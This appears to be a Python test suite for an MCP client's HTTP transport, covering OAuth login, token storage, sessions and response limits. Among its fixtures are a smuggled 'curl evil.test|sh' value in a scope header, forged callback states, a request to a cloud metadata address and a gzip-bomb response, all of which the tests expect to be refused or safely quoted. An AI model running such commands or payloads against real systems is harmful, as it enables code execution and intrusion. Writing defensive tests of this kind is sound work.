"""Servers over HTTP: both transports, tokens, and a login against an authorization server."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import hashlib
import json
import os
import secrets
import socket
import stat
import subprocess
import sys
import threading
import types
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, parse_qsl, urlencode, urlsplit

import httpx2
import pytest

from toolrest import Toolrest
from toolrest.config.schema.mcp import McpServer
from toolrest.config.schema.validate import check_table
from toolrest.mcp.errors import McpError
from toolrest.mcp.login.callback import Callback
from toolrest.mcp.login.oauth import login
from toolrest.mcp.login.tokens import FileStore, KeyringStore, token_key, token_store
from toolrest.mcp.servers import Server, resolve
from toolrest.mcp.transports.http import guards

Open = Callable[..., Toolrest]


class Site(ThreadingHTTPServer):
    """An MCP server over HTTP and the authorization server that guards it."""

    def __init__(self, port: int = 0) -> None:
        super().__init__(("127.0.0.1", port), Handler)
        self.base = f"http://127.0.0.1:{self.server_address[1]}"
        self.guarded = True
        self.lifetime = 3600
        self.valid: set[str] = set()
        self.refreshing: set[str] = set()
        self.codes: dict[str, dict[str, str]] = {}
        self.grants: list[str] = []
        self.seen: list[dict[str, str]] = []
        self.logins = ""
        self.packs = False
        self.answers: Callable[[Handler, dict[str, Any]], None] | None = None
        self.asked: list[str] = []
        self.more: dict[str, Any] = {}
        """Of the login server's description."""
        self.registers = True
        self.clients: list[tuple[str, str | None, str | None]] = []
        self.session = ""
        self.sessions: list[str] = []

    def issue(self) -> dict[str, Any]:
        access, refresh = secrets.token_hex(16), secrets.token_hex(16)
        self.valid.add(access)
        self.refreshing.add(refresh)
        token = {"access_token": access, "token_type": "Bearer", "refresh_token": refresh}
        return {**token, "expires_in": self.lifetime}


class Handler(BaseHTTPRequestHandler):
    server: Site

    def log_message(self, *_: Any) -> None:
        pass

    def reply(self, status: int, body: Any = None, **headers: str) -> None:
        data = b"" if body is None else json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(data)

    def reply_packed(self, data: bytes) -> None:
        packed = gzip.compress(data, 1)
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(packed)))
        self.end_headers()
        with contextlib.suppress(OSError):
            self.wfile.write(packed)

    def do_GET(self) -> None:
        site, parts = self.server, urlsplit(self.path)
        site.asked.append(self.path)
        if parts.path.startswith("/.well-known/oauth-protected-resource"):
            body = {"resource": f"{site.base}/mcp", "authorization_servers": [site.base]}
            self.reply(200, body)
        elif parts.path == "/.well-known/oauth-authorization-server":
            ends = {n: f"{site.base}/{n.split('_')[0]}" for n in ("token_endpoint",)}
            ends["authorization_endpoint"] = f"{site.base}/authorize"
            ends["registration_endpoint"] = f"{site.base}/register"
            methods = {"code_challenge_methods_supported": ["S256"]}
            types_ = {"response_types_supported": ["code"]}
            self.reply(200, {"issuer": site.base, **ends, **methods, **types_, **site.more})
        elif parts.path == "/authorize":
            asked = dict(parse_qsl(parts.query))
            code = secrets.token_hex(8)
            site.codes[code] = asked
            back = urlencode({"code": code, "state": asked["state"]})
            self.reply(302, Location=f"{asked['redirect_uri']}?{back}")
        else:
            self.reply(405)

    def do_DELETE(self) -> None:
        self.reply(200)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/register" and not self.server.registers:
            self.reply(400, {"error": "invalid_redirect_uri"})
        elif self.path == "/register":
            asked = json.loads(body)
            self.reply(201, {"client_id": "client-1", **asked})
        elif self.path == "/token":
            self.token({name: values[0] for name, values in parse_qs(body.decode()).items()})
        elif self.path == "/mcp":
            self.mcp(json.loads(body))
        else:
            self.reply(404)

    def token(self, asked: dict[str, str]) -> None:
        site = self.server
        site.grants.append(asked["grant_type"])
        if asked["grant_type"] == "refresh_token":
            known = asked["refresh_token"] in site.refreshing
            site.refreshing.discard(asked["refresh_token"])
            self.reply(200, site.issue()) if known else self.reply(400, {"error": "invalid_grant"})
            return
        authorized = site.codes.pop(asked["code"], {})
        basic, posted = self.headers.get("Authorization"), asked.get("client_secret")
        site.clients.append((authorized["client_id"], basic, posted))
        digest = hashlib.sha256(asked["code_verifier"].encode()).digest()
        challenge = base64.urlsafe_b64encode(digest).decode().rstrip("=")
        if authorized.get("code_challenge") == challenge:
            self.reply(200, site.issue())
        else:
            self.reply(400, {"error": "invalid_grant"})

    def mcp(self, message: dict[str, Any]) -> None:
        site = self.server
        site.seen.append(dict(self.headers.items()))
        token = self.headers.get("Authorization", "").removeprefix("Bearer ")
        if site.guarded and token not in site.valid:
            base = site.logins or site.base
            where = f'Bearer resource_metadata="{base}/.well-known/oauth-protected-resource"'
            self.reply(401, {"error": "invalid_token"}, WWW_Authenticate=where)
            return
        if "id" not in message:
            self.reply(202)
            return
        answer = {"jsonrpc": "2.0", "id": message["id"], "result": _result(message)}
        if site.packs and message["method"] == "tools/call":
            self.reply_packed(json.dumps({**answer, "more": "x" * 50_000_000}).encode())
            return
        if site.answers is not None and message["method"] == "tools/call":
            site.answers(self, answer)
            return
        given = self.headers.get("Mcp-Session-Id", site.session)
        if given != site.session:
            self.reply(404, {"error": "no such session"})
            return
        site.sessions.append(given)
        self.reply(200, answer, **({"Mcp_Session_Id": site.session} if site.session else {}))


def _result(message: dict[str, Any]) -> dict[str, Any]:
    if message["method"] == "initialize":
        version = message["params"]["protocolVersion"]
        info = {"name": "site", "version": "1"}
        return {"protocolVersion": version, "capabilities": {"tools": {}}, "serverInfo": info}
    if message["method"] == "tools/list":
        return {"tools": [{"name": "hello", "inputSchema": {"type": "object"}}]}
    return {"content": [{"type": "text", "text": "hello from afar"}]}


@contextmanager
def _serving(site: Site) -> Iterator[Site]:
    thread = threading.Thread(target=site.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    try:
        yield site
    finally:
        site.shutdown()
        site.server_close()
        thread.join()


@pytest.fixture
def site() -> Iterator[Site]:
    with _serving(Site()) as made:
        yield made


def server_of(site: Site, **row: Any) -> Server:
    row = {"url": f"{site.base}/mcp", **row}
    return resolve("web", check_table(McpServer, row), "user", "/f", os.environ)


async def browse(url: str) -> None:
    """What a browser does: follow the login page back to us."""
    async with httpx2.AsyncClient() as client:
        page = await client.get(url)
        await client.get(page.headers["location"])


async def log_in(site: Site, home: Path, /, row: Any = None, **options: Any) -> FileStore:
    store = token_store(str(home), "file")
    assert isinstance(store, FileStore)
    opened: list[asyncio.Task[None]] = []

    async def show(url: str) -> None:
        opened.append(asyncio.ensure_future(browse(url)))

    await login(server_of(site, **(row or {})), store, show=show, **options)
    await asyncio.gather(*opened)
    return store


async def test_a_plain_server_over_http(open_rest: Open, site: Site) -> None:
    site.guarded = False
    row = {"url": f"{site.base}/mcp", "headers": {"X-Own": "mine"}}
    async with open_rest({"web": row}) as rest:
        await rest.wait_for_mcp()
        assert (await rest.call("web/hello")).text == "hello from afar"
    assert all(headers.get("X-Own") == "mine" for headers in site.seen)


async def test_a_bearer_token_from_a_variable(
    open_rest: Open, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WEB_TOKEN", site.issue()["access_token"])
    row = {"url": f"{site.base}/mcp", "bearer_token_env_var": "WEB_TOKEN"}
    async with open_rest({"web": row}) as rest:
        await rest.wait_for_mcp()
        assert (await rest.call("web/hello")).text == "hello from afar"


async def test_without_a_login_the_reason_says_how_to(open_rest: Open, site: Site) -> None:
    async with open_rest({"web": {"url": f"{site.base}/mcp"}}) as rest:
        await rest.wait_for_mcp()
        assert rest.mcp is not None
        assert "toolrest mcp login web" in rest.mcp.status()[0].reason


async def test_nobody_listens(open_rest: Open, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLACE", "hidden-in-the-address")
    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{unused.getsockname()[1]}/mcp?key=${{PLACE}}"
        async with open_rest({"web": {"url": url}}) as rest:
            await rest.wait_for_mcp()
            assert rest.mcp is not None
            (status,) = rest.mcp.status()
            assert "cannot reach" in status.reason
            assert "hidden-in-the-address" not in status.reason + status.target


async def test_a_login_is_kept_and_used(open_rest: Open, site: Site, toolrest_home: Path) -> None:
    store = await log_in(site, toolrest_home)
    assert site.grants == ["authorization_code"]
    assert stat.S_IMODE(Path(store.path).stat().st_mode) == 0o600
    assert stat.S_IMODE(Path(store.path).parent.stat().st_mode) == 0o700
    async with open_rest(
        {"web": {"url": f"{site.base}/mcp"}}, settings={"mcp.oauth_credentials_store": "file"}
    ) as rest:
        await rest.wait_for_mcp()
        assert (await rest.call("web/hello")).text == "hello from afar"
    assert site.grants == ["authorization_code"]


async def test_a_server_cannot_send_us_to_hosts_that_are_not_listed(
    open_rest: Open, site: Site, toolrest_home: Path
) -> None:
    await log_in(site, toolrest_home)
    site.valid.clear()
    site.refreshing.clear()
    with _serving(Site()) as other:
        site.logins = other.base
        settings = {
            "mcp.oauth_credentials_store": "file",
            "tool_security.allowed_network_domains": [site.base.removeprefix("http://")],
        }
        async with open_rest({"web": {"url": f"{site.base}/mcp"}}, settings=settings) as rest:
            await rest.wait_for_mcp()
            assert rest.mcp is not None
            (status,) = rest.mcp.status()
        assert not other.asked
    assert status.state == "failed"
    assert "is not in tool_security.allowed_network_domains" in status.reason


@pytest.mark.slow
async def test_an_answer_that_would_grow_is_not_unpacked(open_rest: Open, site: Site) -> None:
    site.guarded, site.packs = False, True
    row = {"url": f"{site.base}/mcp", "tool_timeout_sec": 5.0}
    async with open_rest({"web": row}) as rest:
        await rest.wait_for_mcp()
        output = await rest.call("web/hello")
    assert output.failed
    assert all(headers["Accept-Encoding"] == "identity" for headers in site.seen)


def as_event(handler: Handler, answer: dict[str, Any]) -> None:
    """The answer as one server-sent event."""
    data = f"event: message\ndata: {json.dumps(answer)}\n\n".encode()
    handler.send_response(200)
    handler.send_header("Content-Type", "text/event-stream")
    handler.send_header("Content-Length", str(len(data)))
    handler.end_headers()
    with contextlib.suppress(OSError):
        handler.wfile.write(data)


def large(handler: Handler, answer: dict[str, Any]) -> None:
    text = {"type": "text", "text": "x" * 3_000_000}
    as_event(handler, {**answer, "result": {"content": [text]}})


@pytest.mark.slow
async def test_a_large_answer_is_taken(open_rest: Open, site: Site) -> None:
    """The SDK's own limit is one MiB, and it took the call and the connection with it."""
    site.guarded, site.answers = False, large
    async with open_rest({"web": {"url": f"{site.base}/mcp"}}) as rest:
        await rest.wait_for_mcp()
        output = await rest.call("web/hello")
    assert not output.failed
    assert "xxx" in output.text


def endless(handler: Handler, answer: dict[str, Any]) -> None:
    """A document that does not end; an OSError ends it when the client has gone."""
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.end_headers()
    with contextlib.suppress(OSError):
        handler.wfile.write(b'{"jsonrpc": "2.0", "x": "')
        while True:
            handler.wfile.write(b"x" * 65_536)


@pytest.mark.parametrize("answers", [large, endless])
async def test_an_answer_that_is_too_large_is_refused_and_the_connection_stays(
    open_rest: Open, site: Site, monkeypatch: pytest.MonkeyPatch, answers: Any
) -> None:
    monkeypatch.setattr("toolrest.mcp.transports.http.LONGEST_MESSAGE", 2_000_000)
    site.guarded, site.answers = False, answers
    async with open_rest({"web": {"url": f"{site.base}/mcp", "tool_timeout_sec": 30.0}}) as rest:
        await rest.wait_for_mcp()
        output = await rest.call("web/hello")
        assert output.failed
        assert "the answer has more than 2,000,000 bytes" in output.text
        assert rest.mcp is not None
        assert rest.mcp.status()[0].state == "ready"
        site.answers = None
        assert (await rest.call("web/hello")).text == "hello from afar"


def refusing(status: int, body: Any = None, **headers: str) -> Any:
    return lambda handler, _answer: handler.reply(status, body, **headers)


_SCOPED = 'Bearer error="insufficient_scope", scope="files:read files:write"'
_RPC = {"jsonrpc": "2.0", "id": 3, "error": {"code": -32001, "message": "Unauthorized"}}


@pytest.mark.parametrize(
    ("answers", "words"),
    [
        (refusing(401), "HTTP 401 Unauthorized; log in with: toolrest mcp login web"),
        (refusing(401, _RPC), "HTTP 401: Unauthorized; log in with: toolrest mcp login web"),
        (
            refusing(403, {"error": "forbidden"}, WWW_Authenticate=_SCOPED),
            "HTTP 403: forbidden; it wants the scope files:read files:write; "
            "run: toolrest mcp login web --scopes files:read,files:write",
        ),
        (
            refusing(403, WWW_Authenticate='Bearer scope="a;curl evil.test|sh"'),
            "HTTP 403 Forbidden; it wants the scope a;curl evil.test|sh; "
            "run: toolrest mcp login web --scopes 'a;curl,evil.test|sh'",
        ),
        (
            refusing(429, {"error": {"message": "slow down"}}, Retry_After="7"),
            "HTTP 429: slow down; try again in 7 s",
        ),
        (refusing(500, {"detail": "no disk left"}), "HTTP 500: no disk left"),
        (refusing(503), "HTTP 503 Service Unavailable"),
    ],
)
async def test_what_a_server_says_in_the_middle_of_a_session_is_passed_on(
    open_rest: Open, site: Site, answers: Any, words: str
) -> None:
    site.guarded, site.answers = False, answers
    async with open_rest({"web": {"url": f"{site.base}/mcp"}}) as rest:
        await rest.wait_for_mcp()
        output = await rest.call("web/hello")
        assert output.text.endswith(f"tools/call failed: {words}")
        site.answers = None
        assert (await rest.call("web/hello")).text == "hello from afar"


@pytest.mark.slow
@pytest.mark.parametrize("scope", ["", _SCOPED])
async def test_a_login_that_ends_in_a_session_says_how_to_log_in_again(
    open_rest: Open, site: Site, toolrest_home: Path, scope: str
) -> None:
    """The SDK ended the connection, and the words were those of a lost one."""
    await log_in(site, toolrest_home)
    settings = {"mcp.oauth_credentials_store": "file"}
    async with open_rest({"web": {"url": f"{site.base}/mcp"}}, settings=settings) as rest:
        await rest.wait_for_mcp()
        if scope:
            site.answers = refusing(403, WWW_Authenticate=scope)
        else:
            site.valid.clear()
        output = await rest.call("web/hello")
        assert rest.mcp is not None
        assert rest.mcp.status()[0].state == "ready"
    if scope:
        assert "--scopes files:read,files:write" in output.text
    else:
        assert "log in again with: toolrest mcp login web" in output.text


async def test_a_session_that_the_server_ended_is_opened_again(open_rest: Open, site: Site) -> None:
    site.guarded, site.session = False, "one"
    async with open_rest({"web": {"url": f"{site.base}/mcp"}}) as rest:
        await rest.wait_for_mcp()
        assert (await rest.call("web/hello")).text == "hello from afar"
        site.session = "two"
        assert (await rest.call("web/hello")).failed
        assert (await rest.call("web/hello")).text == "hello from afar"
    assert {"one", "two"} <= set(site.sessions)


@pytest.mark.parametrize(
    ("own", "asked", "refused"),
    [
        ("https://93.184.216.34/mcp", "http://169.254.169.254/latest", True),
        ("https://93.184.216.34/mcp", "https://127.0.0.1:8443/x", True),
        ("https://93.184.216.34/mcp", "https://93.184.216.35/login", False),
        ("https://93.184.216.34/mcp", "https://93.184.216.34/other", False),
        ("http://127.0.0.1:80/mcp", "http://127.0.0.1:81/login", False),
    ],
)
async def test_the_open_internet_does_not_lead_into_the_users_network(
    own: str, asked: str, refused: bool
) -> None:
    server = resolve("web", McpServer(url=own), "user", "/f", {})
    (leaving,) = guards(server, lambda _: None)["request"]
    request = httpx2.Request("GET", asked)
    if refused:
        with pytest.raises(httpx2.ConnectError, match="its own network"):
            await leaving(request)
    else:
        await leaving(request)


@pytest.mark.parametrize("method", ["client_secret_basic", "client_secret_post"])
async def test_a_registered_client_gives_its_secret(
    site: Site, toolrest_home: Path, monkeypatch: pytest.MonkeyPatch, method: str
) -> None:
    monkeypatch.setenv("WEB_SECRET", "very-secret")
    site.registers, site.more = False, {"token_endpoint_auth_methods_supported": [method]}
    row = {"oauth_client_id": "mine", "oauth_client_secret_env_var": "WEB_SECRET"}
    store = await log_in(site, toolrest_home, row)
    basic = "Basic " + base64.b64encode(b"mine:very-secret").decode()
    by_post = method == "client_secret_post"
    assert site.clients == [("mine", *((None, "very-secret") if by_post else (basic, None)))]
    assert "very-secret" not in Path(store.path).read_text()
    assert "very-secret" in server_of(site, **row).secrets().values()
    monkeypatch.delenv("WEB_SECRET")
    with pytest.raises(McpError, match="WEB_SECRET, which is not set"):
        await log_in(site, toolrest_home, row)


@pytest.mark.parametrize("offered", [True, False])
async def test_a_client_described_at_an_address(
    site: Site, toolrest_home: Path, offered: bool
) -> None:
    """A login server that reads such descriptions gets the address; others register us."""
    site.more = {"client_id_metadata_document_supported": offered}
    document = "https://example.com/toolrest.json"
    await log_in(site, toolrest_home, {"oauth_client_id": document})
    assert [client for client, *_ in site.clients] == [document if offered else "client-1"]


@pytest.mark.slow
def test_a_login_that_fails_says_why_and_nothing_else(site: Site, toolrest_home: Path) -> None:
    site.registers = False
    (toolrest_home / "config.toml").write_text(f'[mcp_servers.web]\nurl = "{site.base}/mcp"\n')
    command = [str(Path(sys.executable).parent / "toolrest"), "mcp", "login", "--no-browser", "web"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    (line,) = done.stderr.splitlines()
    assert "the login failed" in line
    assert "invalid_redirect_uri" in line


@pytest.mark.slow
async def test_an_expired_token_is_refreshed_after_a_restart(
    open_rest: Open, site: Site, toolrest_home: Path
) -> None:
    store = await log_in(site, toolrest_home)
    url = f"{site.base}/mcp"
    entry = store.get(url)
    assert entry is not None
    site.valid.clear()
    store.put(url, {**entry, "expires_at": 1.0})
    settings = {"mcp.oauth_credentials_store": "file"}
    async with open_rest({"web": {"url": url}}, settings=settings) as rest:
        await rest.wait_for_mcp()
        assert (await rest.call("web/hello")).text == "hello from afar"
    assert site.grants == ["authorization_code", "refresh_token"]
    renewed = store.get(url)
    assert renewed is not None
    assert renewed["tokens"] != entry["tokens"]
    # When the refresh is refused too, a session says what to do and opens no browser.
    site.valid.clear()
    site.refreshing.clear()
    store.put(url, {**renewed, "expires_at": 1.0})
    async with open_rest({"web": {"url": url}}, settings=settings) as rest:
        await rest.wait_for_mcp()
        assert rest.mcp is not None
        assert "toolrest mcp login web" in rest.mcp.status()[0].reason


async def test_an_answer_with_another_state_is_no_login(site: Site, toolrest_home: Path) -> None:
    store = FileStore(str(toolrest_home / "auth" / "t.json"))
    statuses: list[int] = []
    opened: list[asyncio.Task[None]] = []

    async def forge(url: str) -> None:
        asked = dict(parse_qsl(urlsplit(url).query))
        async with httpx2.AsyncClient() as client:
            for state in ("", "forged"):
                answer = await client.get(
                    asked["redirect_uri"], params={"code": "evil", "state": state}
                )
                statuses.append(answer.status_code)
            elsewhere = asked["redirect_uri"].replace("/callback", "/other")
            statuses.append((await client.get(elsewhere)).status_code)
            assert "<script>" not in answer.text
        await browse(url)

    async def show(url: str) -> None:
        opened.append(asyncio.ensure_future(forge(url)))

    await login(server_of(site), store, show=show)
    await asyncio.gather(*opened)
    assert statuses == [400, 400, 404]
    assert store.get(f"{site.base}/mcp") is not None


async def test_a_state_of_any_letters_is_only_wrong() -> None:
    async with Callback() as callback, httpx2.AsyncClient() as client:
        callback.expect("abc")
        for state in ("%C3%A9", "%FF", "", "abd", "abc%00"):
            answer = await client.get(f"{callback.uri}?state={state}&code=x")
            assert answer.status_code == 400
        assert (await client.get(f"{callback.uri}?state=abc&code=x")).status_code == 200


async def test_a_login_that_nobody_finishes(site: Site, toolrest_home: Path) -> None:
    store = FileStore(str(toolrest_home / "auth" / "t.json"))

    async def show(url: str) -> None:
        pass

    with pytest.raises(McpError, match="the login was not finished"):
        await login(server_of(site), store, show=show, patience=0.3)
    assert store.get(f"{site.base}/mcp") is None
    site.guarded = False
    with pytest.raises(McpError, match="does not ask for a login"):
        await login(server_of(site), store, show=show)
    with pytest.raises(McpError, match="Authorization"):
        await login(server_of(site, headers={"authorization": "x"}), store, show=show)


def test_the_keyring_is_used_when_there_is_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept: dict[tuple[str, str], str] = {}
    ring: Any = types.ModuleType("keyring")
    ring.get_keyring = lambda: types.SimpleNamespace(priority=5)
    ring.get_password = lambda service, name: kept.get((service, name))
    ring.set_password = lambda service, name, value: kept.__setitem__((service, name), value)
    ring.delete_password = lambda service, name: kept.pop((service, name))
    monkeypatch.setitem(sys.modules, "keyring", ring)
    store = token_store(str(tmp_path))
    assert isinstance(store, KeyringStore)
    store.put("https://x.example/mcp", {"tokens": {"access_token": "t"}})
    assert store.get("HTTPS://X.example/mcp/") == {"tokens": {"access_token": "t"}}
    assert store.remove("https://x.example/mcp")
    assert not store.remove("https://x.example/mcp")
    assert token_key("https://x.example/mcp") != token_key("https://x.example/other")
    assert isinstance(token_store(str(tmp_path), "file"), FileStore)
    ring.get_keyring = lambda: types.SimpleNamespace(priority=0)
    assert isinstance(token_store(str(tmp_path)), FileStore)
    with pytest.raises(McpError, match="keyring"):
        token_store(str(tmp_path), "keyring")


@pytest.mark.parametrize(("mode", "path"), [("streamableHttp", "/mcp"), ("sse", "/sse")])
async def test_the_public_server_over_both_transports(
    open_rest: Open, node: str, npm_servers: Path, mode: str, path: str
) -> None:
    main = npm_servers / "server-everything" / "dist" / "index.js"
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    process = subprocess.Popen(
        [node, main, mode],
        env={**os.environ, "PORT": str(port)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        await _listening(port)
        # Nothing says which transport it is: that is found out.
        async with open_rest({"all": {"url": f"http://127.0.0.1:{port}{path}"}}) as rest:
            await rest.wait_for_mcp()
            assert rest.mcp is not None
            assert rest.mcp.status()[0].state == "ready", rest.mcp.status()[0].reason
            assert "hi there" in (await rest.call("all/echo", {"message": "hi there"})).text
    finally:
        process.kill()
        process.wait()


async def _listening(port: int) -> None:
    async with asyncio.timeout(60):
        while True:
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.05)
            else:
                writer.close()
                await writer.wait_closed()
                return


async def test_a_server_that_goes_away_and_comes_back(open_rest: Open) -> None:
    site = Site()
    site.guarded = False
    port = site.server_address[1]
    with _serving(site):
        rest = open_rest({"web": {"url": f"{site.base}/mcp", "tool_timeout_sec": 30.0}})
        await rest.__aenter__()
        await rest.wait_for_mcp()
        assert (await rest.call("web/hello")).text == "hello from afar"
    try:
        gone = await rest.call("web/hello")
        assert gone.failed
        assert gone.failure is not None
        assert gone.failure.kind == "execution_failed", gone.text
        again = Site(port)
        again.guarded = False
        with _serving(again):
            async with asyncio.timeout(60):
                while (await rest.call("web/hello")).text != "hello from afar":
                    await asyncio.sleep(0.2)
    finally:
        await rest.aclose()
